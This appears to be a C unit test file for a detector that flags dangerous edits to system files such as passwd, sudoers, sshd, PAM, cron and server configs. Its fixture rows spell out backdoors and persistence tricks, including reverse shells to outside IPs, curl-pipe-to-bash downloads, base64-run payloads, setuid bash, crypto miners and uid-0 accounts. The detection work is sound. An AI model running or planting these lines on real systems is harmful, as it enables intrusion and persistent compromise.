/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "core/cleanup.h"
#include "diff/accountids.h"
#include "diff/linediff.h"
#include "diff/linerules.h"

#define ROOT "root:x:0:0:root:/root:/bin/sh\n"
#define KEY "AAAAC3NzaC1lZDI1NTE5AAAAIE5hYmMxMjM0NTY3ODkwMTIzNDU2Nzg5MDEyMzQ1Njc4OTAx"

struct row {
	enum textfile what;
	const char *before, *after;
	const char *want; /* rules that name it, each with a blank behind */
	const char *message;
};

static const struct row rows[] = {
	/* ---- accounts ---- */
	{TEXTFILE_PASSWD, ROOT, ROOT "toor:x:0:0::/:/bin/sh\n", "line-account-root ",
	 "new account 'toor' has user id 0"},
	{TEXTFILE_PASSWD, ROOT "daemon:x:1:1::/:\n", ROOT "daemon:x:0:0::/:\n",
	 "line-account-root ", "account 'daemon' has user id 0"},
	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:00:5::/:\n", "line-account-root ", NULL},
	{TEXTFILE_PASSWD, ROOT, ROOT "a:x: +0:5::/:\n", "line-account-root ", NULL},
	{TEXTFILE_PASSWD, ROOT, ROOT "a:x::5::/:\n", "line-account-root ", NULL},
	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:4294967296:5::/:\n", "line-account-root ", NULL},
	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:10:0::/:\n", "", ""},
	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:0x:0::/:\n", "", ""},
	{TEXTFILE_PASSWD, ROOT, "root:x:0:0:root:/root:/bin/bash\n", "", ""},
	{TEXTFILE_PASSWD, "a:x:0:0::/:\n", "a:x:0:0::/:/bin/sh\n", "", ""},
	{TEXTFILE_PASSWD, "", ROOT, "", ""},
	{TEXTFILE_PASSWD, ROOT, "# a:x:0:0\n" ROOT, "", ""},
	{TEXTFILE_PASSWD, ROOT "a:x:0:0::/:\n", ROOT, "", ""},
	{TEXTFILE_PASSWD, "a:x:5:5::/:\n", "a::5:5::/:\n", "line-account-open ",
	 "account 'a' needs no password"},
	{TEXTFILE_SHADOW, "a:!:1\n", "a::1\n", "line-account-open ",
	 "account 'a' needs no password"},
	{TEXTFILE_SHADOW, "a::1\n", "a::2\n", "", ""},
	{TEXTFILE_SHADOW, "a:!:1\n", "a:*:1\n", "", ""},
	{TEXTFILE_PASSWD, ROOT, ROOT "+::::::\n", "", ""},
	{TEXTFILE_SHADOW, "a:!:1\n", "a:$1$ab$0123456789ab:1\n", "line-account-password ",
	 "account 'a' has another password"},
	{TEXTFILE_SHADOW, "", "b:$1$ab$0123456789ab:1\n", "line-account-password ",
	 "account 'b' has a password"},
	{TEXTFILE_SHADOW, "a:$1$ab$0123456789ab:1\n", "a:$1$ab$0123456789ab:2\n", "", ""},
	{TEXTFILE_SHADOW, "a:$1$ab$0123456789ab:1\n", "a:!$1$ab$0123456789ab:1\n", "", ""},
	/* a backup is what was before: nothing is new in it */
	{TEXTFILE_BACKUP, "", ROOT "toor::0:0::/:\n", "", ""},
	{TEXTFILE_GROUP, "sudo:x:27:\n", "sudo:x:27:www-data\n", "line-group-member ",
	 "account 'www-data' is a member of group 'sudo'"},
	{TEXTFILE_GROUP, "sudo:x:27:a\n", "sudo:x:27:b,a\n", "line-group-member ", NULL},
	{TEXTFILE_GROUP, "sudo:x:27:a,b\n", "sudo:x:27:a\n", "", ""},
	{TEXTFILE_GROUP, "", "app:x:1000:a\n", "", ""},
	/* ---- rights ---- */
	{TEXTFILE_SUDOERS, "", "a ALL=(ALL) NOPASSWD: ALL\n", "line-sudo-open ",
	 "sudo asks for no password for any command"},
	{TEXTFILE_SUDOERS, "", "a ALL=NOPASSWD:ALL\n", "line-sudo-open ", NULL},
	{TEXTFILE_SUDOERS, "", "a ALL=NOPASSWD: /bin/ls, \\\n ALL\n", "line-sudo-open ", NULL},
	{TEXTFILE_SUDOERS, "", "Defaults !authenticate\n", "line-sudo-open ", NULL},
	{TEXTFILE_SUDOERS, "", "permit nopass a\n", "line-sudo-open ", NULL},
	{TEXTFILE_SUDOERS, "", "# a ALL=(ALL) NOPASSWD: ALL\n", "", ""},
	{TEXTFILE_SUDOERS, "", "a ALL=(ALL) ALL\n", "", ""},
	{TEXTFILE_SUDOERS, "", "a ALL=NOPASSWD: /bin/ls\n", "", ""},
	{TEXTFILE_SUDOERS, "a ALL=NOPASSWD: ALL\n", "", "", ""},
	{TEXTFILE_KEYS, "", "ssh-ed25519 " KEY " x\n", "line-login-key ", NULL},
	{TEXTFILE_KEYS, "", "# ssh-ed25519 " KEY "\n\n", "", ""},
	/* ---- code ---- */
	{TEXTFILE_PRELOAD, "", "/usr/lib/x.so\n", "line-preload ",
	 "every program that starts loads '/usr/lib/x.so'"},
	{TEXTFILE_PRELOAD, "/usr/lib/x.so\n", "# nothing\n\n", "", ""},
	{TEXTFILE_COMMANDS, "", "export LD_PRELOAD=/tmp/x.so\n", "line-preload-variable ", NULL},
	{TEXTFILE_COMMANDS, "", "# LD_PRELOAD is bad\nMY_LD_PRELOADER=1\n", "", ""},
	{TEXTFILE_COMMANDS, "", "* * * * * root bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n",
	 "line-remote-shell ", NULL},
	{TEXTFILE_COMMANDS, "", "ls /dev/tcp\n", "", ""},
	{TEXTFILE_COMMANDS, "", "curl -s http://x/y | bash\n", "line-download-run ", NULL},
	{TEXTFILE_COMMANDS, "", "wget -qO- x|sh -s\n", "line-download-run ", NULL},
	{TEXTFILE_COMMANDS, "", "curl -s http://x | sudo -E python3.11 -\n", "line-download-run ",
	 NULL},
	{TEXTFILE_COMMANDS, "", "curl -s http://x | mksh\n", "line-download-run ", NULL},
	{TEXTFILE_COMMANDS, "", "curl -sL http://x | tar xz -C /opt/ruby-3.2\n", "", ""},
	{TEXTFILE_COMMANDS, "", "curl -s db:9200/_cat/nodes | grep node\n", "", ""},
	{TEXTFILE_COMMANDS, "", "curl -o x.sh http://x | tee x.sh\nls | sh\n", "", ""},
	{TEXTFILE_COMMANDS, "", "ls() { wget -O /srv/z x; sh /srv/z; }\n", "line-download-run ",
	 NULL},
	{TEXTFILE_COMMANDS, "", "@reboot nc -e /bin/sh 203.0.113.7 4444\n", "line-remote-shell ",
	 NULL},
	{TEXTFILE_COMMANDS, "", "# nc -e /bin/sh x 4\nnc -z db 5432\n", "", ""},
	{TEXTFILE_PASSWD, "www:x:33:33::/:/usr/sbin/nologin\n", "www:x:33:33::/:/bin/bash\n",
	 "line-account-shell ", "account 'www' has got the shell '/bin/bash'"},
	{TEXTFILE_PASSWD, "www:x:33:33::/:/bin/sh\n", "www:x:33:33::/:/bin/bash\n", "", ""},
	{TEXTFILE_PASSWD, "www:x:33:33::/:/bin/bash\n", "www:x:33:33::/:/bin/false\n", "", ""},
	{TEXTFILE_PASSWD, "", "www:x:33:33::/:/bin/bash\n", "", ""},
	{TEXTFILE_GSHADOW, "sudo:*::\n", "sudo:*::www\n", "line-group-member ", NULL},
	{TEXTFILE_COMMANDS, "", "echo aWQ= | base64 -d | bash\n", "line-unpack-run ",
	 "what is unpacked is run"},
	{TEXTFILE_IMPORTS, "", "import base64; exec(base64.b64decode('eA=='))\n",
	 "line-unpack-run line-import ", NULL},
	{TEXTFILE_COMMANDS, "", "base64 -d x > y\nbase64 x | sh.txt\n", "", ""},
	{TEXTFILE_COMMANDS, "", "* * * * * root chmod -R u+s /bin/bash\n", "line-setuid ",
	 "chmod 'u+s'"},
	{TEXTFILE_COMMANDS, "", "chmod 04755 /tmp/x\n", "line-setuid ", NULL},
	{TEXTFILE_COMMANDS, "", "chmod 0755 /x\nchmod u+x,g-s /s\nchmod 1777 /tmp\n", "", ""},
	{TEXTFILE_COMMANDS, "", "/opt/x -o stratum+tcp://pool:1 -u 4x\n", "line-miner ", NULL},
	{TEXTFILE_COMMANDS, "", "@reboot xmrig -B\n", "line-miner ", NULL},
	{TEXTFILE_COMMANDS, "", "# xmrig\nxmrigger --donate\n", "", ""},
	{TEXTFILE_COMMANDS, "", "[ -r /tmp/.x ] && . /tmp/.x\n", "line-source ",
	 "the shell runs what is in '/tmp/.x'"},
	{TEXTFILE_COMMANDS, "", "source \"/usr/share/.cache/env\"; ls\n", "line-source ", NULL},
	{TEXTFILE_COMMANDS, "", "@reboot root . /dev/shm/a\n", "line-source ", NULL},
	{TEXTFILE_COMMANDS, "", ". /root/.cargo/env\n. /etc/profile.d/x.sh\n. \"$HOME/.nvm/x\"\n",
	 "", ""},
	{TEXTFILE_COMMANDS, "", "# . /tmp/x\necho source\n. ./x\ncp /tmp/x .\n", "", ""},
	/* ---- log-ins ---- */
	{TEXTFILE_SSHD, "", "PermitRootLogin yes\n", "line-ssh-open ", "root may log in"},
	{TEXTFILE_SSHD, "", "\tauthorizedkeyscommand=/tmp/k %u\n", "line-ssh-open ",
	 "a program says which keys may log in: '/tmp/k'"},
	{TEXTFILE_SSHD, "", "AuthorizedKeysCommand none\nPermitRootLogin no\n", "", ""},
	{TEXTFILE_SSHD, "", "#PermitRootLogin yes\nUsePAM yes\n", "", ""},
	{TEXTFILE_PAM, "", "auth sufficient pam_permit.so\n", "line-pam-open ",
	 "a log-in asks 'pam_permit.so'"},
	{TEXTFILE_PAM, "", "session optional pam_exec.so seteuid /tmp/x\n", "line-pam-open ", NULL},
	{TEXTFILE_PAM, "", "auth [success=done default=ignore] /tmp/x.so\n", "line-pam-open ",
	 NULL},
	{TEXTFILE_PAM, "", "auth required pam_permit.so\naccount sufficient pam_unix.so\n", "", ""},
	{TEXTFILE_PAM, "", "auth required /usr/lib/x/security/pam_unix.so\n", "", ""},
	/* ---- servers and the system ---- */
	{TEXTFILE_SERVER, "", "auto_prepend_file = \"/tmp/x.jpg\"\n", "line-code-prepended ",
	 "every page runs '/tmp/x.jpg'"},
	{TEXTFILE_SERVER, "", "php_value auto_append_file /tmp/x\n", "line-code-prepended ", NULL},
	{TEXTFILE_SERVER, "", "auto_prepend_file =\n;auto_prepend_file = x\n", "", ""},
	{TEXTFILE_SERVER, "", "AddType application/x-httpd-php .jpg\n", "line-handler ", NULL},
	{TEXTFILE_SERVER, "", "Options +ExecCGI\n", "line-handler ", NULL},
	{TEXTFILE_SERVER, "", "php_flag engine on\n", "line-handler ", NULL},
	{TEXTFILE_SERVER, "", "AddType image/webp .webp\nOptions -Indexes\nRewriteEngine On\n", "",
	 ""},
	{TEXTFILE_HTTPD, "", "load_module /srv/app/evil.so;\n", "line-server-module ",
	 "the server loads '/srv/app/evil.so'"},
	{TEXTFILE_HTTPD, "", "LoadModule x_module \"/tmp/x.so\"\n", "line-server-module ", NULL},
	{TEXTFILE_HTTPD, "", "load_module modules/../../../tmp/x.so;\n", "line-server-module ",
	 NULL},
	{TEXTFILE_HTTPD, "", "content_by_lua_block { os.execute(x) }\n", "line-server-module ",
	 NULL},
	{TEXTFILE_HTTPD, "", "CustomLog \"|/tmp/x\" common\n", "line-server-module ", NULL},
	{TEXTFILE_HTTPD, "",
	 "LoadModule rewrite_module modules/mod_rewrite.so\nload_module modules/x.so;\n"
	 "#load_module /tmp/x.so;\nif ($a ~ (x|y)) { return 1; }\n"
	 "log_format x '$a | $b';\n",
	 "", ""},
	{TEXTFILE_HOOKS, "", "APT::Update::Pre-Invoke {\"x\";};\n", "line-package-hook ", NULL},
	{TEXTFILE_HOOKS, "", "pre-invoke=/tmp/x\n", "line-package-hook ", NULL},
	{TEXTFILE_HOOKS, "", "// Pre-Invoke\nAPT::Get::Assume-Yes \"1\";\n", "", ""},
	{TEXTFILE_SYSCTL, "", "kernel.core_pattern=|/tmp/x %p\n", "line-kernel-helper ",
	 "the kernel runs '|/tmp/x'"},
	{TEXTFILE_SYSCTL, "", "kernel/modprobe = /tmp/x\n", "line-kernel-helper ", NULL},
	{TEXTFILE_SYSCTL, "", "kernel.core_pattern=core.%p\n# kernel.modprobe=/x\n", "", ""},
	{TEXTFILE_IMPORTS, "", "import os; os.system('id')\n", "line-import ",
	 "Python runs 'import os; os.system('id')'"},
	{TEXTFILE_IMPORTS, "", "/srv/app\nimportant\n", "", ""},
	{TEXTFILE_SERVER, "", " php_admin_value[auto_append_file]=\"a.php\"\n",
	 "line-code-prepended ", "every page runs 'a.php'"},
	{TEXTFILE_SERVER, "", "zend_extension=/dev/shm/x.so\n", "line-php-code ",
	 "PHP loads or runs '/dev/shm/x.so'"},
	{TEXTFILE_SERVER, "", "sendmail_path = \"/tmp/m -t\"\n", "line-php-code ", NULL},
	{TEXTFILE_SERVER, "", "memory_limit = 512M\nextension=redis\nauto_prepend_file =\n", "",
	 ""},
	{TEXTFILE_SERVER, "", ";auto_prepend_file = /tmp/x\nerror_log = /proc/self/fd/2\n", "", ""},
	/* another file's rules */
	{TEXTFILE_PLAIN, "", ROOT "toor::0:0::/:\n/usr/lib/x.so\n", "", ""},
};

static struct sl_bytes bytes(const char *text)
{
	return (struct sl_bytes){text, strlen(text)};
}

static void run(const struct row *r, struct sl_finding *f, struct buf *message)
{
	AUTO_FREE struct sl_line *lines = NULL;
	bool hits[16] = {false};
	bool any = false;
	size_t count;

	assert_int_equal(linediff(&lines, &count, bytes(r->before), bytes(r->after), NULL), 0);
	assert_true(count <= ARRAY_SIZE(hits));
	assert_int_equal(linerules_apply(f, r->what, lines, count, hits, message), 0);
	for (size_t i = 0; i < count; i++) {
		any = any || hits[i];
		assert_false(hits[i] && lines[i].sign == '-');
	}
	assert_int_equal(any, f->rule_count > 0);
}

#define APP "app:x:1000:1000::/home/app:/bin/sh\n"

static const struct {
	enum textfile what;
	const char *before, *after;
	bool only;
} moves[] = {
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:99:1234::/home/app:/bin/sh\n", true},
	{TEXTFILE_GROUP, "root:x:0:\napp:x:1000:\n", "root:x:0:\napp:x:1234:\n", true},
	{TEXTFILE_PASSWD, "web:x:33:33::/:/x\n", "web:x:1000:33::/:/x\n", true},
	/* what somebody who knows of this would try */
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1000:27::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1000:6::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:0:1000::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:0::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:00:1000::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:+5:1000::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:4294967296:1::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app::1001:1000::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:1000::/home/app:/bin/bash\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:1000::/root:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:1000::/home/app:/bin/sh:\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT "eve:x:1001:1000::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT, false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT APP "app:x:1001:1::/home/app:/bin/sh\n", false},
	{TEXTFILE_PASSWD, ROOT, "root:x:5:5:root:/root:/bin/bash\n", false},
	{TEXTFILE_PASSWD, ROOT APP "db:x:70:70::/:\n",
	 ROOT "app:x:70:70::/home/app:/bin/sh\ndb:x:70:70::/:\n", false},
	{TEXTFILE_GROUP, "sudo:x:27:\napp:x:1000:\n", "sudo:x:1234:\napp:x:1000:\n", false},
	{TEXTFILE_GROUP, "sudo:x:27:\napp:x:1000:\n", "sudo:x:27:\napp:x:27:\n", false},
	{TEXTFILE_GROUP, "app:x:1000:\n", "app:x:1234:eve\n", false},
	{TEXTFILE_SHADOW, "app:!:1:\n", "app:!:2:\n", false},
	{TEXTFILE_PASSWD, ROOT APP, ROOT APP, false},
};

static void an_account_that_moved_is_told_from_one_that_gained(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(moves); i++) {
		AUTO_FREE struct sl_line *lines = NULL;
		size_t count;

		assert_int_equal(linediff(&lines, &count, bytes(moves[i].before),
					  bytes(moves[i].after), NULL),
				 0);
		if (accountids_only(moves[i].what, lines, count, bytes(moves[i].after)) !=
		    moves[i].only)
			fail_msg("row %zu ('%s')", i, moves[i].after);
	}
}

static void each_rule_names_what_it_should_and_nothing_else(void **state)
{
	bool named[32] = {false};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		CLEANUP(buf_clear) struct buf ids = BUF_INIT(4096);
		CLEANUP(buf_clear) struct buf message = BUF_INIT(4096);
		struct sl_finding f = {0};

		run(&rows[i], &f, &message);
		(void)buf_append_str(&ids, "");
		for (size_t r = 0; r < f.rule_count; r++)
			(void)buf_printf(&ids, "%s ", f.rules[r]);
		if (strcmp(ids.data, rows[i].want) != 0)
			fail_msg("row %zu ('%s'): %s", i, rows[i].after, ids.data);
		if (rows[i].message != NULL &&
		    strcmp(message.data != NULL ? message.data : "", rows[i].message) != 0)
			fail_msg("row %zu: %s", i, message.data);
		for (size_t r = 0; linerules_id(r) != NULL; r++)
			named[r] = named[r] || strstr(ids.data, linerules_id(r)) != NULL;
		if (f.rule_count > 0) {
			assert_true(f.severity >= SL_SEVERITY_HIGH);
			assert_true(f.attack_count > 0);
		}
	}
	for (size_t r = 0; linerules_id(r) != NULL; r++)
		if (!named[r])
			fail_msg("no row for %s", linerules_id(r));
}

static void many_sentences_are_counted(void **state)
{
	CLEANUP(buf_clear) struct buf message = BUF_INIT(4096);
	const struct row r = {TEXTFILE_PRELOAD, "", "/a\n/b\n/c\n/d\n/e\n/f\n", NULL, NULL};
	struct sl_finding f = {0};

	(void)state;
	run(&r, &f, &message);
	assert_non_null(strstr(message.data, "'/d'; and 2 more like these"));
	assert_int_equal(f.rule_count, 1);
}

static void names_in_sentences_are_quoted(void **state)
{
	CLEANUP(buf_clear) struct buf message = BUF_INIT(4096);
	const struct row r = {TEXTFILE_PASSWD, "", "a\033[31m:x:0:0\n", NULL, NULL};
	struct sl_finding f = {0};

	(void)state;
	run(&r, &f, &message);
	assert_string_equal(message.data, "new account 'a\\x1b[31m' has user id 0");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_rule_names_what_it_should_and_nothing_else),
		cmocka_unit_test(an_account_that_moved_is_told_from_one_that_gained),
		cmocka_unit_test(many_sentences_are_counted),
		cmocka_unit_test(names_in_sentences_are_quoted),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
